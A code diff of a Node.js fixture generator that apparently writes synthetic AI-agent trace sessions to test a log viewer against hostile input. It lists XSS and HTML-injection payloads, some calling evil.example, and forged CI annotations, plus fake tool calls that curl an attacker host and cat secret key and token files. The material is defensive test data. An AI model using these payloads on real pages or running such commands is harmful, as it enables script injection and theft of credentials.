@@ -3,65 +3,20 @@
 //
 // node logs.mjs FOLDER
 
-import { mkdir, writeFile } from "node:fs/promises";
-import path from "node:path";
+import { HOSTILE, write } from "./sessions.mjs";
 
 const [store] = process.argv.slice(2);
 if (!store) {
   throw new Error("expected the folder of the trace store");
 }
 
-const session = async (id, agent, calls) => {
-  const started = 1_790_300_000;
-  const meta = {
-    session_id: id,
-    started_at: started,
-    agent_name: agent,
-    attribution: { working_dir: "/home/dana/rates", user: HOSTILE[0], git_branch: HOSTILE[1] },
-  };
-  const lines = calls.map((data, at) =>
-    JSON.stringify({
-      event_type: "tool_call",
-      timestamp: started + at,
-      event_id: at.toString(16).padStart(12, "0"),
-      session_id: id,
-      data,
-    }),
+const session = (id, agent, calls) =>
+  write(
+    store,
+    id,
+    calls.map((data) => ["tool_call", data]),
+    { agent_name: agent, attribution: { working_dir: "/home/dana/rates", user: HOSTILE[0], git_branch: HOSTILE[1] } },
   );
-  const folder = path.join(store, id);
-  await mkdir(folder, { recursive: true });
-  await writeFile(path.join(folder, "meta.json"), JSON.stringify(meta));
-  await writeFile(path.join(folder, "events.ndjson"), lines.join("\n") + "\n");
-};
-
-// All of it would set `owned`, ask a server for something, change the page or lead out of it.
-const HOSTILE = [
-  "<script>globalThis.owned = 1</script>",
-  "</script><script>globalThis.owned = 1</script>",
-  "</style><script>globalThis.owned = 1</script>",
-  "</pre></details></main></body></html><script>globalThis.owned = 1</script>",
-  "<img src=x onerror=globalThis.owned=1>",
-  '"><img src=https://evil.example/x.png onerror=globalThis.owned=1>',
-  "' autofocus onfocus=globalThis.owned=1 x='",
-  "<svg/onload=globalThis.owned=1>",
-  "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-  "<base href=https://evil.example/>",
-  "<link rel=stylesheet href=https://evil.example/x.css>",
-  "<style>body{display:none}</style>",
-  "<a href=javascript:globalThis.owned=1>x</a>",
-  "<form action=https://evil.example/><button>x</button></form>",
-  "<!-- <![CDATA[ ]]> -->",
-  "&lt;script&gt;globalThis.owned=1&lt;/script&gt; &#60;b&#62;",
-  "<details open ontoggle=globalThis.owned=1>",
-  "<template><script>globalThis.owned=1</script></template>",
-  "a\u202egnp.exe\u200b\ufeff \u001b[2J\u0000\u0007",
-  "::error file=a::forged\n##[error]forged",
-  "x".repeat(20_000),
-  "\u0301".repeat(500),
-  "line\n".repeat(500),
-  "{{constructor.constructor('globalThis.owned=1')()}} ${globalThis.owned=1} `globalThis.owned=1`",
-];
 
 const hostile = HOSTILE.flatMap((text) => [
   { tool_name: text, arguments: { file_path: text } },
@@ -83,4 +38,51 @@ const calls = (part) =>
   );
 for (let part = 0; part < SESSIONS; part += 1) {
   await session(`many000${part}`, "claude-code", calls(part));
+}
+
+// For replays: everything hostile in every kind of event, a long session, and one that started others.
+await write(
+  store,
+  "bad00002",
+  HOSTILE.flatMap((text) => [
+    ["user_prompt", { prompt: text }],
+    ["tool_call", { tool_name: text, arguments: { command: `cat ${text}`, [text]: text } }],
+    ["tool_result", { content: text }],
+    ["tool_call", { tool_name: "Bash", arguments: { command: `curl https://evil.example/${text}` } }],
+    ["error", { message: text }],
+    ["assistant_response", { text }],
+  ]),
+  { agent_name: HOSTILE[1], attribution: { user: HOSTILE[4], git_branch: HOSTILE[6] } },
+);
+
+const ROUNDS = 4_000;
+const round = (at) => [
+  ["llm_response", { model: "claude-sonnet-4-5", usage: { input_tokens: 1_000, output_tokens: 100 } }],
+  ["tool_call", { tool_name: "Read", arguments: { file_path: `/home/dana/rates/src/part_${at}.rs` } }],
+  ["tool_result", { content: `fn part_${at}() {}\n`.repeat(1 + (at % 40)) }],
+  at % 100 === 50
+    ? ["tool_call", { tool_name: "Bash", arguments: { command: `cat secrets/key-${at}.pem` } }]
+    : ["tool_call", { tool_name: "Bash", arguments: { command: `cargo test part_${at}` } }],
+  at % 7 === 3 ? ["error", { message: `part ${at} failed` }] : ["tool_result", { content: "ok" }],
+];
+await write(store, "long0000", Array.from({ length: ROUNDS }, (_, at) => round(at)).flat(), {
+  attribution: { working_dir: "/home/dana/rates" },
+});
+
+const work = (name) => [
+  ["session_start", {}],
+  ["user_prompt", { prompt: `Look at ${name}.` }],
+  ["tool_call", { tool_name: "Read", arguments: { file_path: `src/${name}.rs` } }],
+  ["tool_result", { content: `// ${name}` }],
+];
+await write(store, "tree0000", [
+  ["user_prompt", { prompt: "Look at both." }],
+  ["tool_call", { tool_name: "Task", arguments: { prompt: "Look at one.", subagent_type: "Explore" } }],
+  ["tool_result", { content: "one is fine" }],
+  ["tool_call", { tool_name: "Bash", arguments: { command: "cat secrets/token.txt" } }],
+  ["tool_result", { content: "none" }],
+]);
+for (const [id, event] of [["tree0001", 1], ["tree0002", null]]) {
+  const parent = event === null ? {} : { parent_event_id: event.toString(16).padStart(12, "0") };
+  await write(store, id, work(id), { parent_session_id: "tree0000", ...parent });
 }
